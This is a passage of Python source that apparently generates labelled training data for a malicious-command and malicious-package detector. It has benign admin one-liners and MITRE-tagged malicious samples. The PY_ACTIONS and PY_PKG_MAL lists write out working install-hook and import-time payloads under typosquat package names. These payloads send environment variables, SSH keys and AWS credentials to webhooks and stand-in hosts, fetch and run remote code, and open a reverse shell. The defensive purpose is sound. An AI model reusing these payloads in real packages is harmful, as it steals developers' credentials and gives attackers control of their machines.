    out += _expand(rnd, PERSISTENCE, "bash", "inline", M, "T1053", 4, wrap=True)
    out += _expand(rnd, ACCOUNTS, "bash", "inline", M, "T1136", 4, wrap=True)
    out += _expand(rnd, CREDENTIALS, "bash", "inline", M, "T1552", 4, wrap=True)
    out += _expand(rnd, EVASION, "bash", "inline", M, "T1070", 4, wrap=True)
    out += _expand(rnd, MINERS, "bash", "inline", M, "T1496", 4, wrap=True)
    out += _expand(rnd, CONTAINER_ESCAPE, "bash", "inline", M, "T1611", 4, wrap=True)
    out += _expand(rnd, EXFIL, "bash", "inline", M, "T1041", 4, wrap=True)
    out += _chain(rnd, mal_pools, "bash", M, "T1059.004", 120)
    out += _expand(rnd, BENIGN, "bash", "inline", B, None, 5, wrap=True)
    out += _expand(rnd, DOCKERFILE_RUN, "bash", "inline", B, None, 5)
    out += _expand(rnd, ENTRYPOINTS, "bash", "file", B, None, 6)
    out += _chain(rnd, [BENIGN, DOCKERFILE_RUN], "bash", B, None, 120)
    out += _expand(rnd, PY_INLINE_MAL, "python", "inline", M, "T1059.006", 3)
    out += _expand(rnd, PY_INLINE_BEN, "python", "inline", B, None, 3)
    out += _expand(rnd, PY_FILE_MAL, "python", "file", M, "T1059.006", 4)
    out += _expand(rnd, PY_FILE_BEN, "python", "file", B, None, 4)
    out += generate_packages()
    out += generate_oneliners()
    return out


# --- Python package malware (install hooks, import-time droppers, beacons) -------
# The shapes of malicious PyPI uploads: code that runs at `pip install` or import
# time and beacons, steals or drops. Written from the technique, with our own
# names, hosts and payloads; plain benign setup.py files and API clients beside them.
# Benign setup.py files with build hooks (cmdclass build_py/build_ext) were tried and
# left out: by-collection validation lost PyPI-malware detection (python AUC 0.984 ->
# 0.975), so a legitimate package with a build hook scores higher than it should.
PKG_NAMES = ["requests-toolz", "colourama", "pyhttpx-utils", "numpy-extras", "django-authkit", "beautifulsoup5", "py-cryptolib", "aiohttp-tools", "tensorflow-addon-utils", "openai-helpers", "discord-selfbot-kit", "pillow-simd2"]
HOOK_CLASSES = ["PostInstall", "CustomInstall", "InstallCommand", "AfterInstall", "RunPayload", "Verify"]
BASES = [("install", "setuptools.command.install"), ("develop", "setuptools.command.develop"), ("egg_info", "setuptools.command.egg_info")]

PY_ACTIONS = [
    'requests.get("http://{rawip}/c", params={{"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}})',
    'urllib.request.urlopen("https://{hex}.oast.fun/?" + urllib.parse.urlencode(dict(os.environ)))',
    'requests.post("https://webhook.site/{hex}", json=dict(os.environ), timeout=5)',
    'requests.post("https://discord.com/api/webhooks/{n}/{hex}", json={{"content": getpass.getuser() + "@" + socket.gethostname()}})',
    'subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand " + "{b64}", shell=True)',
    'os.system("curl -s http://{ip}/i.sh | sh")',
    'os.system(base64.b64decode("{b64}").decode())',
    'exec(urllib.request.urlopen("https://paste.invalid/raw/{hex}").read())',
    'exec(base64.b64decode("{b64}"))',
    'f = os.path.join(tempfile.gettempdir(), "{bin}.exe"); open(f, "wb").write(requests.get("http://{ip}/{bin}.exe").content); os.startfile(f)',
    'f = "/tmp/.{bin}"; urllib.request.urlretrieve("http://{ip}/{bin}", f); os.chmod(f, 0o755); subprocess.Popen([f], start_new_session=True)',
    'socket.getaddrinfo(getpass.getuser() + "." + socket.gethostname() + ".{hex}.dnslog.invalid", 80)',
    's = socket.socket(); s.connect(("{rawip}", {port})); [os.dup2(s.fileno(), i) for i in (0, 1, 2)]; subprocess.call(["/bin/sh", "-i"])',
    'requests.post("http://{rawip}:{port}/k", files={{"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")}})',
    'requests.post("http://{ip}/t", data={{"t": open(os.path.expanduser("~/.aws/credentials")).read()}})',
]

PY_PKG_MAL = [
    """from setuptools import setup
from {base_mod} import {base}
import os, socket, getpass, subprocess, base64, urllib.request, urllib.parse, tempfile
import requests


class {cls}({base}):
    def run(self):
        {base}.run(self)
        try:
            {action}
        except Exception:
            pass


setup(
    name="{name}",
    version="{ver}",
    packages=["{pkg}"],
    install_requires=["requests"],
    cmdclass={{"{base}": {cls}}},
)
""",
    """import os, socket, getpass, subprocess, base64, urllib.request, urllib.parse, tempfile
from setuptools import setup, find_packages

try:
    {action}
except Exception:
    pass

setup(name="{name}", version="{ver}", packages=find_packages(), description="{desc}")
""",
    """from distutils.core import setup
import os, socket, getpass, subprocess, base64, urllib.request, urllib.parse, tempfile
import requests

if not os.path.exists("{bin}.lock"):
    {action}

setup(name="{name}", version="{ver}", py_modules=["{pkg}"])
""",
    """# {pkg}/__init__.py
import os, socket, getpass, subprocess, base64, urllib.request, urllib.parse, tempfile
import threading
import requests

__version__ = "{ver}"


def _init():
    try:
        {action}
    except Exception:
        pass


threading.Thread(target=_init, daemon=True).start()
""",
]

PY_PKG_BEN = [
    """import os
import re
from setuptools import setup, find_packages

here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "{pkg}", "__init__.py")) as f:
    version = re.search(r'__version__ = "(.+?)"', f.read()).group(1)
with open(os.path.join(here, "README.md")) as f:
    long_description = f.read()

setup(
    name="{name}",
    version=version,
    description="{desc}",
    long_description=long_description,
    long_description_content_type="text/markdown",
    packages=find_packages(),
    python_requires=">=3.8",
    install_requires=["requests", "urllib3"],
)
""",
    """\"\"\"{desc}\"\"\"
import logging
import os
import socket

import requests

__version__ = "{ver}"
log = logging.getLogger(__name__)
DEFAULT_URL = os.environ.get("{pkg}_URL".upper(), "https://api.example.com")


class Client:
    def __init__(self, url=DEFAULT_URL, token=None, timeout=10):
        self.url = url.rstrip("/")
        self.session = requests.Session()
        self.session.headers["User-Agent"] = f"{pkg}/{{__version__}} ({{socket.gethostname()}})"
        if token:
            self.session.headers["Authorization"] = f"Bearer {{token}}"
        self.timeout = timeout

    def get(self, path, **params):
        r = self.session.get(f"{{self.url}}/{{path.lstrip('/')}}", params=params, timeout=self.timeout)
        r.raise_for_status()
        return r.json()
""",
]

DESCS = ["HTTP helpers for humans", "Fast utilities for data pipelines", "Discord bot toolkit", "Crypto wallet helpers", "Colored terminal output", "Async HTTP utilities"]


def generate_packages():
    rnd = random.Random(7)
    fill = Filler(rnd)
    out = []
    for template in PY_PKG_MAL:
        for action in PY_ACTIONS:
            for _ in range(2):
                base, base_mod = rnd.choice(BASES)
                name = rnd.choice(PKG_NAMES)
                body = template.replace("{action}", action)
                body = body.replace("{base}", base).replace("{base_mod}", base_mod).replace("{cls}", rnd.choice(HOOK_CLASSES))
                body = body.replace("{name}", name).replace("{pkg}", name.replace("-", "_")).replace("{desc}", rnd.choice(DESCS))
                out.append(("python", "file", M, "T1195.001", fill(body)))
    for template in PY_PKG_BEN:
        for _ in range(12):
            name = rnd.choice(PKG_NAMES)
            body = template.replace("{base}", "build_py").replace("{name}", name).replace("{pkg}", name.replace("-", "_")).replace("{desc}", rnd.choice(DESCS))
            out.append(("python", "file", B, None, fill(body)))
    return out


# --- benign one-liners, composed: producer [| filter ...] [> sink] ----------------
# Everyday shell as admins and developers type it (the style of Q&A sites and
# runbooks): discovery commands such as whoami/ifconfig/cat /etc/passwd are here
# too, because admins run them far more often than attackers do.
PRODUCERS = [
    "find {dir} -name '{pat}'", "find {dir} -type f -name '{pat}'", "find {dir} -type d -empty", "find {dir} -mtime -{n}",
    "find {dir} -size +{n}M", "find . -maxdepth {d} -type f", "find {dir} -user {user}", "find {dir} -perm 644",
    "find {dir} -newer {file}", "find {dir} -iname '*{word}*'", "ls -la {dir}", "ls -lt {dir}", "ls -1 {dir}/{pat}",
    "cat {file}", "cat /etc/passwd", "cat /etc/group", "cat /etc/hosts", "cat /etc/resolv.conf", "cat /proc/meminfo",
    "cat /proc/cpuinfo", "getent passwd", "ps aux", "ps -ef", "ps -eo pid,ppid,cmd,%mem --sort=-%mem", "pgrep -a {svc}",
    "df -h", "du -sh {dir}/*", "du -ah {dir}", "free -m", "uptime", "who", "w", "last -n {n}", "whoami", "id", "id -un",
    "uname -a", "uname -r", "hostname", "hostname -I", "ifconfig", "ifconfig eth0", "ip addr show", "ip route", "ip -4 addr",
    "netstat -tulpn", "netstat -an", "ss -ltnp", "lsof -i :{port}", "lsof -p {n}", "mount", "lsblk", "dmesg",
    "env", "printenv", "history", "crontab -l", "systemctl list-units --type=service", "journalctl -u {svc} --since today",
    "docker ps -a", "docker images", "kubectl get pods -A", "git log --oneline", "git status --short", "git diff --stat",
    "grep -rn '{word}' {dir}", "grep -ril '{word}' {dir}", "zgrep '{word}' /var/log/syslog.*.gz", "tail -n {n} {file}",
    "head -n {n} {file}", "sort {file}", "awk -F: '{{print $1}}' /etc/passwd", "cut -d, -f{d} {file}", "echo $PATH",
    "echo $HOME", "date +%s", "seq 1 {n}", "ls /proc | grep -E '^[0-9]+$'", "stat -c '%U %G %a' {file}", "file {file}",
    "md5sum {dir}/*", "sha256sum {file}", "tar -tzf {arch}", "unzip -l {arch}", "dpkg -l", "rpm -qa", "apt list --installed",
    "pip list", "npm ls --depth=0", "locate {word}", "which {svc}", "type -a python3", "ssh {user}@{host} uptime",
    "ssh {host} 'df -h /'", "curl -sI https://{host}", "curl -s https://{host}/api/v1/status", "wget -qO- https://{host}/robots.txt",
    "dig +short {host}", "nslookup {host}", "ping -c {d} {host}", "traceroute {host}", "openssl s_client -connect {host}:443 -brief",
]
FILTERS = [
    "grep '{word}'", "grep -v '{word}'", "grep -i {word}", "grep -c {word}", "grep -E '{word}|{word2}'", "awk '{{print ${d}}}'",
    "awk '$3 > {n}'", "sort", "sort -rn", "sort | uniq -c | sort -rn", "uniq", "head -n {n}", "tail -n {n}", "wc -l",
    "cut -d' ' -f{d}", "cut -d: -f1", "tr '[:lower:]' '[:upper:]'", "tr -d '\\n'", "sed 's/{word}/{word2}/g'", "sed -n '{d},{n}p'",
    "column -t", "less", "xargs ls -l", "xargs -r rm -f", "xargs -I{{}} cp {{}} {dest}", "xargs -n1 basename", "xargs du -ch | tail -1",
    "xargs grep -l '{word}'", "xargs -0 chmod 644", "tee {out}", "nl", "paste -sd,", "jq '.items[].metadata.name'", "rev | cut -d/ -f1 | rev",
]
SINKS = ["", "", "", " > {out}", " >> {out}", " 2>/dev/null", " | tee -a {out}", " > /dev/null 2>&1"]
EXEC_ACTIONS = [
    "-exec rm {{}} \\;", "-exec chmod 755 {{}} \\;", "-exec ls -l {{}} +", "-exec grep -H '{word}' {{}} \\;", "-exec mv {{}} {dest} \\;",
    "-exec cp {{}} {dest} \\;", "-exec gzip {{}} \\;", "-exec wc -l {{}} +", "-exec sed -i 's/{word}/{word2}/' {{}} \\;", "-delete",
    "-exec du -h {{}} +", "-exec {script} {{}} \\;", "-exec sh -c 'echo \"$1\"' _ {{}} \\;", "-print0 | xargs -0 rm -f", "-exec chown {user} {{}} +",
]
WORDS = ["error", "warning", "TODO", "foo", "bar", "timeout", "main", "root", "nginx", "java", "python", "docker", "failed", "GET", "404", "user", "config", "version"]
PATS = ["*.log", "*.txt", "*.py", "*.sh", "*.c", "*.conf", "*.bak", "*.tmp", "*.jpg", "*.mp3", "*.gz", "*.java", "*.html", "*~", "core", ".DS_Store"]
FILES = ["file.txt", "data.csv", "/var/log/syslog", "/var/log/messages", "access.log", "input.txt", "/etc/fstab", "list.txt", "$file", "output.log", "/tmp/out.txt", "~/.bashrc", "config.yaml"]
ARCHS = ["backup.tar.gz", "archive.zip", "release.tgz", "/tmp/files.tar.gz"]
DESTS = ["/backup/", "/tmp/", "../archive/", "$HOME/old/", "/mnt/usb/", "dest/"]
SCRIPTS = ["./process.sh", "/usr/local/bin/convert.sh", "/tmp/fix.sh", "~/bin/rename.sh", "./script.py", "/opt/tools/scan.sh"]
BHOSTS = ["example.com", "server1", "db01.internal", "10.0.0.12", "192.168.1.10", "host.local", "build-box", "github.com"]


def generate_oneliners(count=900):
    rnd = random.Random(99)
    out = []
    for _ in range(count):
        r = rnd.random()
        if r < 0.25:
            cmd = "find " + rnd.choice(["{dir}", ".", "/", "~"]) + rnd.choice([" -name '{pat}'", " -type f -name '{pat}'", " -mtime +{n}", " -iname '*{word}*'", " -type f -size +{n}k", ""]) + " " + rnd.choice(EXEC_ACTIONS)
        else:
            cmd = rnd.choice(PRODUCERS)
            for _ in range(rnd.choice([0, 1, 1, 1, 2, 2, 3])):
                cmd += " | " + rnd.choice(FILTERS)
            cmd += rnd.choice(SINKS)
        if rnd.random() < 0.12:
            cmd = "sudo " + cmd
        cmd = cmd.format(
            dir=rnd.choice(DIRS + ["/var/log", "/home/user", "/etc", "/usr/local", "/tmp", "src", "/opt"]), pat=rnd.choice(PATS),
            n=rnd.randint(1, 200), d=rnd.randint(1, 5), user=rnd.choice(USERS + ["www-data", "root", "ubuntu", "$USER"]),
            file=rnd.choice(FILES), word=rnd.choice(WORDS), word2=rnd.choice(WORDS), svc=rnd.choice(SVCS), port=rnd.choice(PORTS),
            host=rnd.choice(BHOSTS), arch=rnd.choice(ARCHS), dest=rnd.choice(DESTS), out=rnd.choice(["out.txt", "result.log", "/tmp/list.txt", "report.csv"]),
            script=rnd.choice(SCRIPTS),
        )
        out.append(("bash", "inline", B, None, cmd))
    return out
